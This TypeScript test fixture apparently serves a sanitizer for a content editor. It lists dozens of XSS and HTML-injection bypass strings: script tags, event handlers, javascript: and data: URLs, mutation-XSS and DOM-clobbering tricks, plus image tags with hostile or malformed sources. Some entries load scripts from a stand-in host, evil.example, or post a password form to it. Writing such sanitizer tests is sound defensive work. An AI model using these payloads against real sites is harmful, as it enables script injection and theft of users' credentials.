/** Ways to act that have got through filters: each has to come out with nothing that acts. */
export const PAYLOADS = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '<script/x>alert(1)</script >', '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '<img/src="x"/onerror=alert(1)>', '<img src=`x`onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="java&#10;script:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="blob:http://x/1">x</a>',
  '<a href="//evil.example">x</a>', '<a href="/\\evil.example" onclick=alert(1)>x</a>', '<a href="x" style="background:url(javascript:alert(1))">x</a>', '<a href="#" onmouseover="alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<applet code=x></applet>',
  '<base href="//evil.example/">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example"</style>', '<p style="position:fixed;inset:0">x</p>',
  '<form action="//evil.example"><input name=password></form>', '<button formaction="javascript:alert(1)">x</button>', '<input autofocus onfocus=alert(1)>', '<textarea onfocus=alert(1) autofocus>', '<select onchange=alert(1)><option>1</select>',
  '<video><source onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<marquee onstart=alert(1)>x</marquee>', '<body onload=alert(1)>', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<template><script>alert(1)</script></template>', '<xss onpointerrawupdate=alert(1)>x</xss>', '<p id=x tabindex=1 onactivate=alert(1)></p>', '<![CDATA[<script>alert(1)</script>]]>', '<!--><script>alert(1)</script>-->', '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p data-x="1" is="x-y" slot=z>x</p>', '<a href="https://ok.example" target=_blank ping=//evil.example>x</a>', '<b/onclick=alert(1)>x', '"><script>alert(1)</script>',
  '<p id="__NEXT_DATA__">{"props":{}}</p>', '<p id="__next">x</p>', '<a id=cookie href="/faqs">x</a>', '<p name="__NEXT_DATA__">x</p>',
  '<a href="/\\evil.example">x</a>', '<a href="/&#92;evil.example">x</a>', '<a href="/\t\\evil.example">x</a>', '<a href="/&#10;/evil.example">x</a>', '<a href="\\\\evil.example">x</a>', '<a href=" /\\/evil.example">x</a>',
  '</p><script>alert(1)</script>', '<a href=https://ok.example/"onmouseover=alert(1)>x</a>',
];

/** Pictures that are none of the editors' own, that say no size, or that bring more than a picture. */
export const PICTURES = [
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x" width="8" height="5">', '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x" width="8" height="5">', '<img src="javascript:alert(1)" alt="x" width="8" height="5">', '<img src="JaVa\tScript:alert(1)" width="8" height="5">', '<img src="blob:https://cms.example/1" width="8" height="5">',
  '<img src="https://evil.example/uploads/a.png" alt="x" width="8" height="5">', '<img src="//evil.example/a.png" alt="x" width="8" height="5">', '<img src="/\\evil.example/a.png" width="8" height="5">', '<img src="https:evil.example/a.png" width="8" height="5">', '<img src="https://cms.example@evil.example/a.png" width="8" height="5">', '<img src="https://evil@cms.example/a.png" width="8" height="5">',
  '<img src="http://cms.example/uploads/a.png" width="8" height="5">', '<img src="https://cms.example:8443/uploads/a.png" width="8" height="5">', '<img src="https://cms.example.evil.example/a.png" width="8" height="5">', '<img src="https://cdn.example/other/a.png" width="8" height="5">', '<img src="https://cdn.example/bucket/../other/a.png" width="8" height="5">', '<img src="https://cdn.example/bucket/%2e%2e/other/a.png" width="8" height="5">',
  '<img src="/uploads/a.svg" alt="x" width="8" height="5">', '<img src="/uploads/a.SVG?x=.png" width="8" height="5">', '<img alt="x" width="8" height="5">', '<img src="" width="8" height="5">', '<img srcset="https://evil.example/a.png 2x" width="8" height="5">',
  '<img src="/uploads/a.png" alt="x">', '<img src="/uploads/a.png" width="8">', '<img src="/uploads/a.png" width="0" height="5">', '<img src="/uploads/a.png" width="-8" height="5">', '<img src="/uploads/a.png" width="50%" height="5">', '<img src="/uploads/a.png" width="8" height="999999">',
  '<input type="image" src="/uploads/a.png" width="8" height="5">', '<video src="/uploads/a.png" width="8" height="5" poster="https://evil.example/a.png"></video>', '<picture><source srcset="https://evil.example/a.png"></picture>', '<image src="https://evil.example/a.png" width="8" height="5">',
];
